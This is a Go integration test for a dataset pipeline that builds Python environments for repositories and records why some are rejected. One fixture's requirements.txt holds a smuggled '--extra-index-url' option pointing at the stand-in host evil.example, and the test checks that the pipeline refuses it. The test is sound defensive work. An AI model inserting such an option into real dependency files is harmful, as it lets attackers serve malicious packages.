package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ndtrace/ndtrace/dataset"
	"github.com/ndtrace/ndtrace/internal/testrepos"
	"github.com/ndtrace/ndtrace/internal/testwheels"
	"github.com/ndtrace/ndtrace/store"
)

// TestRunRepositoryEnvironments traces a repository whose tests import a third-party package
// (with_dependency: requirements.txt names the fixture wheel ndtrace-fixture-a, which depends on
// ndtrace-fixture-b) with env: repository, its packages served by a package index on the loopback
// address: its environment is built by the pipeline, stored in the dataset's store and mounted in
// the sandbox, with no manual step, and its tests give repository-level rows. A repository whose
// requirements file names another index and one that needs a package the index does not have are
// environment rejects with the reasons.
func TestRunRepositoryEnvironments(t *testing.T) {
	if testing.Short() {
		t.Skip("long integration test; run without -short")
	}
	dir := t.TempDir()
	envs, err := os.MkdirTemp("/var/tmp", "ndtrace-envs-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(envs) })
	t.Setenv("NDTRACE_ENVS", envs)
	ix := testwheels.Serve(t, testwheels.Fixtures())

	// Two more repositories, as local folders: with_dependency's files with another requirements.txt.
	repo := func(name, requirements string) string {
		p := filepath.Join(dir, name)
		for f, data := range testrepos.Files(t, "with_dependency") {
			os.MkdirAll(filepath.Join(p, filepath.Dir(f)), 0o755)
			os.WriteFile(filepath.Join(p, f), data, 0o644)
		}
		os.WriteFile(filepath.Join(p, "requirements.txt"), []byte(requirements), 0o644)
		return p
	}
	hostile := repo("hostile", "ndtrace-fixture-a\n--extra-index-url https://evil.example/simple\n")
	missing := repo("missing", "ndtrace-fixture-a\nno-such-package==9\n")
	url, _ := testrepos.Git(t, "with_dependency")
	listPath := filepath.Join(dir, "repos.txt")
	os.WriteFile(listPath, []byte(fmt.Sprintf("%s main\n%s\n%s\n", url, hostile, missing)), 0o644)

	out := filepath.Join(dir, "data")
	spec := writeSpec(t, dir, fmt.Sprintf(`name: envs
output: %s
sources:
  - kind: repository
    list: %s
    trust_list: true
    env: repository
environments:
  index_url: %s
  timeout: 2m
limits:
  timeout: 5s
created_at: 2026-11-22T00:00:00Z
`, out, listPath, ix.SimpleURL()))
	var stdout, stderr bytes.Buffer
	if code := run([]string{"run", "--spec", spec}, &stdout, &stderr); code != 0 {
		t.Fatalf("run: exit %d: %s", code, stderr.String())
	}
	m, _ := checkDataset(t, out)
	t.Logf("counts: %v; rows %d", m.Counts, m.Totals.Rows)

	ctx := context.Background()
	st, err := store.Open(ctx, out)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	levels := map[string]int{}
	for _, s := range m.Shards {
		rows, err := dataset.ReadRows(ctx, st, s.Path, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			levels[r.Level]++
			if strings.Contains(r.Text, envs) {
				t.Errorf("row %s mentions the environments' folder", r.ID)
			}
		}
	}
	if levels["repository"] == 0 {
		t.Errorf("rows by level %v: want repository-level rows from with_dependency", levels)
	}
	if m.Counts["tests:passed"] < 3 {
		t.Errorf("counts[tests:passed] = %d, want 3 (with_dependency's tests pass with their environment)", m.Counts["tests:passed"])
	}
	rejects := readRejects(t, out)
	for _, want := range []string{
		`"class":"environment","reason":"environment: requirements.txt line 2: requirement \"--extra-index-url https://evil.example/simple\": pip options are refused`,
		`"class":"environment","reason":"environment: pip: ERROR: `,
		`No matching distribution found for no-such-package==9`,
	} {
		if !strings.Contains(rejects, want) {
			t.Errorf("no reject with %s:\n%s", want, rejects)
		}
	}
	// The environment is in the dataset's store, and extracted in the worker's folder.
	var archives []string
	st.List(ctx, "envs/", func(key string, size int64) error {
		if strings.HasSuffix(key, ".tar") {
			archives = append(archives, key)
		}
		return nil
	})
	if len(archives) != 1 {
		t.Errorf("stored environments %v, want one", archives)
	}
	if entries, _ := filepath.Glob(filepath.Join(envs, "*", "lib", "python3.*", "site-packages", "fixture_a")); len(entries) != 1 {
		t.Errorf("extracted environments: %v", entries)
	}
	// The yield report says where the two rejected repositories stopped.
	stats, _, err := loadDatasetStats(ctx, out)
	if err != nil {
		t.Fatal(err)
	}
	if y := stats.Repositories; y == nil || y.Repositories != 3 || y.WithRows != 1 || y.RejectedByClass["environment"] != 2 {
		t.Errorf("repositories' yield %+v", y)
	}
}
